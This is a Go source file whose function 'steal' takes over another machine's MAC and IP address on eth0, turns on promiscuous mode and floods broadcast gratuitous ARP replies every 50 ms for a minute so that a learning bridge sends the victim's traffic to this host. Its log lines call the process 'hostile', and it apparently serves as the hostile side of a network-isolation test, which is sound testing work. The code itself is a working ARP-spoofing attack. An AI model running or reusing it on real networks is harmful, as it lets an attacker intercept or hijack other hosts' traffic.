package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"time"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// steal takes mac and addr on eth0, as root in a VM may, and announces
// them by gratuitous ARP every 50 ms for a minute, so that a bridge that
// learns addresses sends their frames here.
func steal(ctx context.Context, mac net.HardwareAddr, addr netip.Addr) error {
	link, err := netlink.LinkByName("eth0")
	if err != nil {
		return err
	}
	if err := netlink.SetPromiscOn(link); err != nil {
		return fmt.Errorf("promiscuous: %w", err)
	}
	if err := netlink.LinkSetHardwareAddr(link, mac); err != nil {
		return fmt.Errorf("set mac: %w", err)
	}
	a := &netlink.Addr{IPNet: &net.IPNet{IP: addr.AsSlice(), Mask: net.CIDRMask(32, 32)}}
	if err := netlink.AddrAdd(link, a); err != nil {
		return fmt.Errorf("add address: %w", err)
	}
	stolen.Store(addr)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ARP)))
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Ifindex: link.Attrs().Index, Protocol: htons(unix.ETH_P_ARP), Halen: 6}
	copy(to.Addr[:], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	frame := garp(mac, addr)
	fmt.Printf("hostile: took mac %s and address %s\n", mac, addr)
	sent := 0
	for end := time.Now().Add(time.Minute); time.Now().Before(end) && ctx.Err() == nil; sent++ {
		if err := unix.Sendto(fd, frame, 0, to); err != nil {
			return fmt.Errorf("send arp: %w", err)
		}
		if sent == 10 {
			fmt.Println("hostile: announced the stolen address 10 times")
		}
		time.Sleep(50 * time.Millisecond)
	}
	return nil
}

// garp is a broadcast gratuitous ARP reply: mac has addr.
func garp(mac net.HardwareAddr, addr netip.Addr) []byte {
	f := make([]byte, 42)
	copy(f[0:6], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	copy(f[6:12], mac)
	binary.BigEndian.PutUint16(f[12:], unix.ETH_P_ARP)
	binary.BigEndian.PutUint16(f[14:], 1)      // Ethernet
	binary.BigEndian.PutUint16(f[16:], 0x0800) // IPv4
	f[18], f[19] = 6, 4
	binary.BigEndian.PutUint16(f[20:], 2) // reply
	ip := addr.As4()
	copy(f[22:28], mac)
	copy(f[28:32], ip[:])
	copy(f[32:38], []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	copy(f[38:42], ip[:])
	return f
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
